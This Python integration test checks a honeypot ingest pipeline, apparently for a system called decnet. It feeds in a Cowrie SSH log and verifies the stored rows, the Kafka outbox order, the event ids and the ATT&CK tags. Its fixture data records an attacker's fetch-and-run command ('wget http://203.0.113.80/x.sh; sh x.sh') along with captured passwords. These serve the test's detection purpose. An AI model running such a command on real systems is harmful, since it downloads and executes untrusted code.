"""The worked example of the ingest contract from a log file to tags: every row, every event and its id, in their order,
and never an event whose attacker cannot be found. Prints TAP."""
import json
import re
import time
import uuid

from lab import INGEST_TOPICS, ROOT, TTP_TOPICS, Lab, Program, Session, event_ids, expect, expect_equal, program, run_cases

IP, SID = "198.51.100.23", "8b5b4643-10c2-54f9-9f3e-a31e49d18554"
PAYLOAD = "04743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3"
HASSH = "3c22e3bfc2b8b121088e0bc23a380321"
SECRETS = {"admin": "8c6976e5b5410415bde908bd4dee15dfb167a9c873fc4bb8a81f6f2ab448a918",
           "P@ssw0rd123": "231ecc7d178da5f22983bc579599396d6c139a457987ae1ee0026d88432d6a72"}
NS_EVENT = uuid.uuid5(uuid.NAMESPACE_URL, "decnet:event:v1")
NS_TAG = uuid.uuid5(uuid.NAMESPACE_URL, "decnet:ttp_tag:v1")
ATTACKER = str(uuid.uuid5(uuid.uuid5(uuid.NAMESPACE_URL, "decnet:attacker:v1"), IP))
FIRST_SEEN_US = 1778401501004512


def c_strings(name):
    """The strings of an array in tests/unit/cowrie_example.h, where the unit tests have them too."""
    text = (ROOT / "tests/unit/cowrie_example.h").read_text()
    body = re.search(name + r"\[\] = \{(.*?)\n\};", text, re.S).group(1)
    items = re.findall(r'((?:"(?:[^"\\]|\\.)*"\s*)+),', body)
    return ["".join(json.loads(part) for part in re.findall(r'"(?:[^"\\]|\\.)*"', item)) for item in items]


def event_id(*parts):
    return str(uuid.uuid5(NS_EVENT, "|".join(map(str, parts))))


lab = Lab("example")
lines = c_strings("example_lines")
log = lab.file("cowrie.json", "".join(line + "\n" for line in lines))
example_log_ids = c_strings("example_log_ids")


def read_without_broker():
    """Everything is stored, nothing can be published: the outbox shows what would be, in order."""
    lab.broker_stop()
    ended = lab.ingest(log, wanted=1, DECNET_KAFKA_MESSAGE_TIMEOUT_MS=1000)
    expect("outbox" in ended.err and "kafka.bootstrap.servers" in ended.err, "no word on the outbox:", ended.err)
    return ended.json()


def broker_away_keeps_events_in_the_outbox_in_their_order():
    report = read_without_broker()
    expect_equal([report[k] for k in ("lines", "new_lines", "bad_lines", "attackers", "sessions", "announced", "commands")],
                 [11, 11, 0, 1, 1, 1, 2], "report")
    expect_equal([e["topic"] for e in lab.outbox()],
                 ["attacker.observed", "credential.captured", "credential.captured", "attacker.session.ended"], "order")
    expect_equal([e["payload"]["event_id"] for e in lab.outbox()], expected_ids(), "ids")


def expected_ids():
    captured = [event_id("credential.captured", IP, "edge-01", "ssh", "plaintext", SECRETS[s], 1, "root")
                for s in ("admin", "P@ssw0rd123")]
    return [event_id("attacker.observed", IP, FIRST_SEEN_US), *captured, "4586efd8-a896-51fb-99d3-488b5dfab989"]


def rows_of_every_table():
    logs = lab.rows('SELECT source_event_id, event_type FROM logs ORDER BY "timestamp", id')
    expect_equal([r["source_event_id"] for r in logs if r["event_type"] != "session_recorded"], example_log_ids, "log ids")
    recorded = lab.rows("SELECT source_event_id, fields FROM logs WHERE event_type = 'session_recorded'")
    ns_log = uuid.UUID("5e3e80ac-cd59-5920-a783-bd6cbe61bd3a")
    expect_equal([r["source_event_id"] for r in recorded], [str(uuid.uuid5(ns_log, f"session_recorded|{SID}|1"))],
                 "session_recorded")
    attacker = lab.rows("SELECT * FROM attackers")
    expect_equal(len(attacker), 1, "attackers")
    a = attacker[0]
    expect_equal([a[k] for k in ("uuid", "ip", "first_seen", "last_seen", "event_count", "services", "deckies",
                                 "is_traversal", "bounty_count", "credential_count", "identity_id")],
                 [ATTACKER, IP, "2026-05-10T08:25:01.004512+00:00", "2026-05-10T08:27:30.125+00:00", 11, ["ssh"],
                  ["edge-01"], False, 2, 2, None], "attacker")
    expect_equal([c["id"] for c in a["commands"]], [f"{SID}#0", f"{SID}#1"], "attackers.commands")
    expect_equal([(f["kind"], f["hash"], f["role"]) for f in a["fingerprints"]], [("hassh_client", HASSH, "client")],
                 "attackers.fingerprints")
    s = lab.rows("SELECT * FROM attacker_session")[0]
    expect_equal([s[k] for k in ("sid", "attacker_uuid", "src_port", "decky", "service", "login_attempts", "login_ok",
                                 "username", "commands", "artifacts", "forwards", "duration_s", "ended_reason",
                                 "parts_sent", "commands_sent", "pending", "hassh")],
                 [SID, ATTACKER, 51514, "edge-01", "ssh", 2, True, "root", 2, 1, 0, 149.12, "closed", 1, 2, False, HASSH],
                 "session")
    expect_equal(lab.rows("SELECT ordinal, command, source_event_id FROM session_command ORDER BY ordinal"),
                 [{"ordinal": 0, "command": "uname -a", "source_event_id": example_log_ids[6]},
                  {"ordinal": 1, "command": "cd /tmp; wget http://203.0.113.80/x.sh; sh x.sh",
                   "source_event_id": example_log_ids[7]}], "commands")
    expect_equal(lab.rows("SELECT principal, secret_sha256, outcome, attempt_count, attacker_uuid FROM credentials"
                          " ORDER BY outcome"),
                 [{"principal": "root", "secret_sha256": SECRETS[s], "outcome": o, "attempt_count": 1,
                   "attacker_uuid": ATTACKER} for s, o in (("admin", "failure"), ("P@ssw0rd123", "success"))], "credentials")
    expect_equal(lab.rows("SELECT bounty_type, coalesce(payload->>'fingerprint_type', payload->>'kind') AS kind"
                          " FROM bounty ORDER BY 1"),
                 [{"bounty_type": "artifact", "kind": "file"}, {"bounty_type": "fingerprint", "kind": "hassh_client"}],
                 "bounties")
    expect_equal({r["kind"]: r["value"] for r in lab.rows("SELECT kind, value FROM attacker_evidence")},
                 {"hassh_client": HASSH, "ssh_banner": "SSH-2.0-libssh_0.11.1", "payload_sha256": PAYLOAD,
                  "c2": "203.0.113.80:80", "download_url": "http://203.0.113.80/x.sh"}, "evidence")


def next_run_publishes_what_waited():
    lab.broker_start()
    report = lab.ingest(log).json()
    expect_equal([report["new_lines"], report["unpublished_bytes"], lab.count("event_outbox")], [0, 0, 0], "after it")
    events = lab.events(*INGEST_TOPICS)
    expect_equal(event_ids(events), set(expected_ids()), "ids on the broker")
    expect_equal(len(events), 4, "records on the broker")
    ended = next(e for e in events if e["topic"] == "attacker.session.ended")
    expect_equal(ended["key"], IP, "key")
    expect_equal(ended["headers"]["decnet-event-type"], "attacker.session.ended", "type")
    expect_equal(ended["headers"]["decnet-schema-version"], "1", "version")
    p = ended["payload"]
    expect_equal([p[k] for k in ("session_id", "attacker_uuid", "attacker_ip", "decky_id", "service", "ended_at",
                                 "duration_s", "started_at", "ended_reason", "src_port", "schema", "request_count")],
                 [SID, ATTACKER, IP, "edge-01", "ssh", "2026-05-10T08:27:30.125000Z", 149.12,
                  "2026-05-10T08:25:01.004512Z", "closed", 51514, "cowrie/1", 0], "payload")
    expect_equal([(c["id"], c["ts"], c["errored"]) for c in p["commands"]],
                 [(f"{SID}#0", "2026-05-10T08:25:12.301000Z", False), (f"{SID}#1", "2026-05-10T08:25:40.917000Z", False)],
                 "commands of the event")
    expect_equal([a["sha256"] for a in p["artifacts"]], [PAYLOAD], "artifacts")
    expect("part" not in p and "parts" not in p, "a session in one piece has no part")


def tags_of_the_two_commands():
    lab.worker()
    tags = lab.rows("SELECT * FROM ttp_tag ORDER BY source_id, rule_id, technique_id, sub_technique_id")
    seen = {(t["source_id"], t["rule_id"], t["technique_id"]) for t in tags}
    wanted = {(f"{SID}#0", "R0018", "T1082"), (f"{SID}#1", "R0012", "T1105")}
    expect(wanted <= seen, "missing", wanted - seen, "in", seen)
    commands = {f"{SID}#0": "2026-05-10T08:25:12.301+00:00", f"{SID}#1": "2026-05-10T08:25:40.917+00:00"}
    for t in tags:
        key = "|".join((t["source_kind"], t["source_id"], t["rule_id"], str(t["rule_version"]), t["technique_id"],
                        t["sub_technique_id"] or ""))
        expect_equal(t["uuid"], str(uuid.uuid5(NS_TAG, key)), "tag id")
        expect_equal([t[k] for k in ("source_kind", "attacker_uuid", "identity_uuid", "session_id", "decky_id")],
                     ["command", ATTACKER, None, SID, "edge-01"], "columns of a tag")
        expect_equal(t["observed_at"], commands[t["source_id"]], "observed_at is the command's time")
        expect_equal([t["evidence"][k] for k in ("user", "src")], ["root", IP], "evidence")
        expect(t["evidence"]["command_text"] and 0.3 <= t["confidence"] <= 1, t)
    events = lab.events(*TTP_TOPICS)
    event_ids(events)
    tagged = [e["payload"] for e in events if e["topic"] == "ttp.tagged"]
    expect_equal(len(tagged), 1, "ttp.tagged")
    expect_equal(sorted(tagged[0]["tag_uuids"]), sorted(t["uuid"] for t in tags), "tags announced")
    expect_equal(tagged[0]["techniques_added"], sorted({t["technique_id"] for t in tags}), "techniques announced")


def session_is_never_readable_before_its_attacker():
    """The transaction is held in its last third: until it is committed nothing may be on the broker; and the first
    record of the first reader finds the row."""
    lab.wipe()
    holder, looker = Session(lab), Session(lab, "decnet_ttp")
    holder.run("BEGIN; LOCK TABLE event_outbox IN SHARE MODE")
    reader = Program(lab, "reader", [program("CONSUME"), "--follow", "attacker.session.ended"], lab.env())
    ingest = lab.ingest_spawn("--idle-timeout", "0", log)
    deadline = time.monotonic() + 20
    while not holder.run("SELECT 1 FROM pg_locks WHERE NOT granted") and time.monotonic() < deadline:
        time.sleep(0.02)
    expect(holder.run("SELECT 1 FROM pg_locks WHERE NOT granted"), "the ingest never came to its outbox")
    time.sleep(0.3)
    expect_equal(looker.run(f"SELECT count(*) FROM attackers WHERE ip = '{IP}'"), ["0"], "rows before COMMIT")
    expect_equal(reader.out, "", "records before COMMIT")
    holder.run("COMMIT")
    while not reader.out and time.monotonic() < deadline:
        pass
    found = looker.run(f"SELECT count(*) FROM attackers WHERE ip = '{IP}'")
    expect(reader.out, "no record arrived")
    expect_equal(found, ["1"], "rows when the first record was read")
    ingest.end()
    reader.terminate(wanted=-15)
    holder.close()
    looker.close()


run_cases([broker_away_keeps_events_in_the_outbox_in_their_order, rows_of_every_table, next_run_publishes_what_waited,
           tags_of_the_two_commands, session_is_never_readable_before_its_attacker])
